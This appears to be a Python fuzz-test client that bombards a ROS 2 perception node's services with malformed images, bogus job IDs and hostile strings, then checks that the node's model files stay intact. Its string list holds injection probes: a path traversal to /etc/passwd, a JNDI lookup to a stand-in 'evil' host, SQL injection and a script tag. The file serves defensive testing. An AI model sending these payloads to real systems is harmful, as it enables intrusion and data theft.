"""Client process for test_hostile_clients.py: a hostile client of a running vlkd_perception node over DDS.

Usage: python hostile_driver.py CONFIG_JSON. Prints one JSON line per check ({"check": ..., ...}).
It fires CONFIG["calls"] calls, a seeded mix of valid queries and hostile strings, images and shot lists on every
field of every service (a static camera streams meanwhile, so take_next_frames jobs see one view only), waits for
the jobs they started to end, fingerprints the model dir (registry and every weights file), then makes one valid
~/add_object and, when CONFIG["second_node_cmd"] is given, starts a second node on the same model dir and asks
it to learn too. CONFIG: {"node", "known", "calls", "in_flight", "model_dir", "shots_dir", "camera_cmd",
"second_node_cmd", "second_node"}.
"""
from __future__ import annotations

import hashlib
import json
import random
import subprocess
import sys
import threading
import time
from pathlib import Path

import numpy as np
import rclpy
from sensor_msgs.msg import Image

from node_driver import Driver, emit, load_shots, start_camera, wait_until
from vlkd_interfaces.srv import AddObject, CancelJob, GetJobStatus, IsGraspable, ListJobs, ListObjects
from vlkd_ros.ros.client import PerceptionClient, interrupt
from vlkd_ros.ros.image_msgs import numpy_to_image

try:  # the batched query service (added alongside this test); hostile calls go to it too when it exists
    from vlkd_interfaces.srv import QueryObjects
except ImportError:  # pragma: no cover
    QueryObjects = None

CALL_TIMEOUT_S = 90.0
STRINGS = ["../../etc/passwd", "物体 ☃ \u202e", "drop table objects;", "ob\x00ject", "", "   ", "\t\n\r",
           "x" * 5000, "a/b", "a\\b", "zero\u200bwidth", "\u202eelcric der", "%s%s%n%x", "${jndi:ldap://evil/x}",
           "<script>alert(1)</script>", "名前" * 60, "😀 mug", "\x7f\x1b[31m", "nul\x00", "' OR 1=1 --", "-1",
           "frames-000000000000", "\u2028line", "\ufeffbom", "a" * 101]


def fingerprint(model_dir: Path) -> dict[str, str]:
    """SHA-256 of the registry and every weights, shots and ONNX file of the model dir."""
    files = [model_dir / "registry.json", model_dir / "model.safetensors"] + sorted(
        p for folder in ("weights", "objects", "onnx") for p in (model_dir / folder).glob("*") if p.is_file())
    return {str(p.relative_to(model_dir)): hashlib.sha256(p.read_bytes()).hexdigest() for p in files}


def image(array: np.ndarray, encoding: str = "rgb8") -> Image:
    return numpy_to_image(array, encoding, "hostile")


def broken_images(rng: np.random.Generator) -> list[Image]:
    """Images whose fields lie: encodings, sizes, steps, data lengths."""
    ok = rng.integers(0, 256, (48, 64, 3), dtype=np.uint8)
    out = []
    for encoding in ("yuv422", "", "32FC1", "bayer_rggb8", "rgb8\x00", "RGB8", "16UC1"):
        msg = image(ok)
        msg.encoding = encoding
        out.append(msg)
    short = image(ok)
    short.data = bytes(short.data)[:100]
    long = image(ok)
    long.data = bytes(long.data) + bytes(1000)
    huge = image(ok)
    huge.width = huge.height = 65535
    huge.step = 65535 * 3
    step = image(ok)
    step.step = 7
    zero = Image(width=0, height=0, encoding="rgb8", step=0, data=bytes(30))
    wide = Image(width=1, height=0, encoding="rgb8", step=3, data=b"")
    return out + [short, long, huge, step, zero, wide]


def junk_frames(rng: np.random.Generator) -> list[np.ndarray]:
    """Frames that decode fine but show no object."""
    return [np.full((480, 640, 3), 128, np.uint8), np.full((48, 48, 3), int(rng.integers(0, 256)), np.uint8),
            rng.integers(0, 256, (96, 96, 3), dtype=np.uint8),
            np.clip(128 + rng.normal(0, 10, (64, 64, 3)), 0, 255).astype(np.uint8),
            np.full((8, 8, 3), 200, np.uint8)]


class Hostile:
    """Builds and fires the calls; counts what came back."""

    def __init__(self, d: Driver, cfg: dict, rng: random.Random) -> None:
        self.d, self.cfg, self.rng = d, cfg, rng
        self.np_rng = np.random.default_rng(rng.randrange(2**32))
        self.list_jobs = d.node.create_client(ListJobs, f"{d.ns}/list_jobs")
        self.cancel = d.node.create_client(CancelJob, f"{d.ns}/cancel_job")
        self.query = d.node.create_client(QueryObjects, f"{d.ns}/query_objects") if QueryObjects else None
        self.shots = load_shots(cfg["shots_dir"])
        self.camera_ok = [image(f) for f in (self.np_rng.integers(0, 256, (48, 64, 3), dtype=np.uint8),)]
        self.job_ids: list[str] = []
        self.lock = threading.Lock()
        self.results: list[dict] = []

    def clients(self) -> tuple:
        return tuple(c for c in (self.list_jobs, self.cancel, self.query) if c is not None)

    # ----- one call of each kind ------------------------------------------------------------------------

    def string(self) -> str:
        return self.rng.choice(STRINGS + self.cfg["known"])

    def any_image(self) -> Image:
        pick = self.rng.random()
        if pick < 0.5:
            return self.rng.choice(broken_images(self.np_rng))
        return image(self.rng.choice(junk_frames(self.np_rng)))

    def shot_list(self) -> tuple[str, list[Image], int]:
        """(kind, images, take_next_frames) of a hostile add_object payload; none is a set of distinct views."""
        rng, frames = self.rng, junk_frames(self.np_rng)
        real = self.rng.choice(self.shots)
        kinds = {
            "grey": lambda: ([image(frames[0])] * 5, 0),
            "noise": lambda: ([image(self.np_rng.integers(0, 256, (96, 96, 3), dtype=np.uint8)) for _ in range(5)], 0),
            "duplicates": lambda: ([real] * 5, 0),
            "junk_mix": lambda: ([image(rng.choice(frames)) for _ in range(5)], 0),
            "one_bad": lambda: (self.shots[:4] + [image(frames[0])], 0),
            "broken": lambda: ([real, real, rng.choice(broken_images(self.np_rng)), real, real], 0),
            "too_few": lambda: (self.shots[:1], 0),
            "too_many": lambda: ([image(np.full((16, 16, 3), i, np.uint8)) for i in range(51)], 0),
            "tiny": lambda: ([image(np.full((4, 4, 3), 10 * i, np.uint8)) for i in range(5)], 0),
            "nothing": lambda: ([], 0),
            "both": lambda: (self.shots, 5),
            "take_huge": lambda: ([], 4294967295),
            "take_one": lambda: ([], 1),
            "take_static": lambda: ([], 5),  # accepted, then fails: the camera is static
        }
        kind = rng.choice(list(kinds))
        images, take = kinds[kind]()
        return kind, images, take

    def plan(self, n: int) -> list[tuple]:
        """(kind, client, request, valid query?) x n: a third valid queries, the rest hostile on every service."""
        calls = []
        known = self.cfg["known"]
        for i in range(n):
            r = self.rng.random()
            if r < 0.33:
                req = IsGraspable.Request(object_name=self.rng.choice(known + ["flying saucer", "tea cup"]))
                if self.rng.random() < 0.3:
                    req.image = self.camera_ok[0]
                calls.append(("valid_query", self.d.grasp, req, True))
            elif r < 0.45:
                req = IsGraspable.Request(object_name=self.string())
                if self.rng.random() < 0.6:
                    req.image = self.any_image()
                calls.append(("hostile_query", self.d.grasp, req, False))
            elif r < 0.72:
                kind, images, take = self.shot_list()
                kind = f"add_{kind}"
                name = self.rng.choice(STRINGS + ["red circle", "toy block", known[0]])
                if kind == "add_take_static" or self.rng.random() < 0.3:  # names the node accepts ("ob" via NUL)
                    name = self.rng.choice(["drop table objects;", "ob\x00ject", "toy block", "red circle", "物体 ☃"])
                desc = self.rng.choice(["", "a\x00b", "overwritten description", "x" * 600, "\u202eevil", "ok"])
                req = AddObject.Request(name=name, description=desc, images=images, take_next_frames=take)
                calls.append((kind, self.d.add, req, False))
            elif r < 0.78 and self.query is not None:
                names = [self.string() for _ in range(self.rng.randint(0, 6))]
                req = QueryObjects.Request(object_names=names)
                if self.rng.random() < 0.5:
                    req.image = self.any_image()
                calls.append(("hostile_query_objects", self.query, req, False))
            elif r < 0.84:
                calls.append(("status", self.d.job, GetJobStatus.Request(job_id=self.job_id()), False))
            elif r < 0.90:
                calls.append(("cancel", self.cancel, CancelJob.Request(job_id=self.job_id()), False))
            elif r < 0.95:
                calls.append(("list_jobs", self.list_jobs, ListJobs.Request(), False))
            else:
                calls.append(("list_objects", self.d.list, ListObjects.Request(), False))
        return calls

    def job_id(self) -> str:
        with self.lock:
            ids = list(self.job_ids)
        return self.rng.choice(ids) if ids and self.rng.random() < 0.5 else self.string()

    # ----- firing ---------------------------------------------------------------------------------------

    def fire(self, calls: list[tuple], in_flight: int) -> None:
        slots = threading.Semaphore(in_flight)
        for kind, client, request, valid in calls:
            slots.acquire()
            sent = time.perf_counter()

            def done(future, kind=kind, valid=valid, sent=sent) -> None:
                reply = future.result()
                row = {"kind": kind, "valid": valid, "seconds": time.perf_counter() - sent}
                if isinstance(reply, AddObject.Response):
                    row.update(accepted=reply.accepted, message=reply.message)
                    if reply.accepted:
                        with self.lock:
                            self.job_ids.append(reply.job_id)
                elif hasattr(reply, "success"):
                    row.update(success=reply.success, message=reply.message)
                with self.lock:
                    self.results.append(row)
                slots.release()

            client.call_async(request).add_done_callback(done)
        end = time.monotonic() + CALL_TIMEOUT_S
        while len(self.results) < len(calls) and time.monotonic() < end:
            time.sleep(0.05)

    def summary(self, calls: list[tuple], seconds: float) -> dict:
        with self.lock:
            rows = list(self.results)
        kinds: dict[str, int] = {}
        for kind, *_ in calls:
            kinds[kind] = kinds.get(kind, 0) + 1
        accepted = sorted({r["kind"] for r in rows if r.get("accepted")})
        return {"sent": len(calls), "answered": len(rows), "seconds": round(seconds, 1), "kinds": kinds,
                "valid": sum(1 for r in rows if r["valid"]),
                "valid_ok": sum(1 for r in rows if r["valid"] and r.get("success")),
                "valid_failures": sorted({r["message"][:120] for r in rows if r["valid"] and not r.get("success")}),
                "add_accepted_kinds": accepted,
                "add_refusals": sorted({r["message"][:90] for r in rows if r.get("accepted") is False})[:80],
                "hostile_query_ok": sum(1 for r in rows if r["kind"] == "hostile_query" and r.get("success")),
                "slowest_s": round(max((r["seconds"] for r in rows), default=0.0), 2)}


def jobs_listing(h: Hostile) -> dict:
    reply = h.d.call(h.list_jobs, ListJobs.Request())
    if reply is None:
        return {"answered": False}
    return {"answered": True, "ids": list(reply.job_ids), "names": list(reply.names), "states": list(reply.states),
            "messages": list(reply.messages)}


def main() -> int:
    cfg = json.loads(sys.argv[1])
    model_dir = Path(cfg["model_dir"])
    rclpy.init()
    d = Driver(cfg["node"])
    h = Hostile(d, cfg, random.Random(cfg.get("seed", 0)))
    camera = start_camera(cfg["camera_cmd"])
    try:
        if not d.wait_for_services(90.0, h.clients()):
            emit("services", ok=False)
            return 3
        emit("services", ok=True)
        got = wait_until(lambda: (r := d.ask(cfg["known"][0], timeout=5.0)) is not None and r.success, 40.0, 0.3)
        emit("camera", ok=got)
        before = fingerprint(model_dir)
        emit("fingerprint_before", files=before)

        calls = h.plan(int(cfg["calls"]))
        start = time.monotonic()
        h.fire(calls, int(cfg.get("in_flight", 8)))
        emit("hostile", **h.summary(calls, time.monotonic() - start))

        def quiet() -> bool:
            listing = jobs_listing(h)
            return listing["answered"] and not {"queued", "running"} & set(listing["states"])

        emit("jobs_settled", ok=wait_until(quiet, 120.0, 0.5), **jobs_listing(h))
        static = [h.d.call(h.d.job, GetJobStatus.Request(job_id=j)) for j in h.job_ids[:3]]
        emit("static_jobs", replies=[{"state": r.state, "message": r.message} for r in static if r is not None])
        listing = d.call(d.list, ListObjects.Request())
        emit("objects_after_hostile", names=list(listing.names), descriptions=list(listing.descriptions),
             model_version=listing.model_version)
        emit("fingerprint_after_hostile", files=fingerprint(model_dir))
        registry_before = json.loads((model_dir / "registry.json").read_text())

        request = AddObject.Request(name="Orange Square", description="a small square that is plain orange",
                                    images=h.shots)
        reply = d.call(d.add, request)
        emit("valid_add", accepted=reply.accepted, job_id=reply.job_id, message=reply.message)
        wait_until(lambda: d.call(d.job, GetJobStatus.Request(job_id=reply.job_id)).state
                   in ("succeeded", "failed", "cancelled"), 150.0, 0.5)
        status = d.call(d.job, GetJobStatus.Request(job_id=reply.job_id))
        emit("valid_job", state=status.state, message=status.message)
        emit("registry", before=registry_before, after=json.loads((model_dir / "registry.json").read_text()))

        if cfg.get("second_node_cmd"):
            second = subprocess.Popen(cfg["second_node_cmd"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            other = PerceptionClient(cfg["second_node"], "vlkd_hostile_second")
            try:
                ok = other.wait_for_services(90.0)
                ok = ok and wait_until(lambda: (r := other.call(other.list, ListObjects.Request(), 5.0)) is not None
                                       and r.model_version != "", 60.0, 0.5)
                reply = other.call(other.add, AddObject.Request(name="mystery box", images=h.shots), 60.0)
                emit("second_node", ok=ok, accepted=bool(reply and reply.accepted),
                     message=reply.message if reply else "timeout")
            finally:
                other.close()
                interrupt(second, 15.0)
                emit("second_node_stopped", returncode=second.returncode)
        return 0
    finally:
        emit("camera_stopped", stderr_tail=interrupt(camera, 10.0)[-300:])
        d.close()
        rclpy.try_shutdown()


if __name__ == "__main__":
    sys.exit(main())
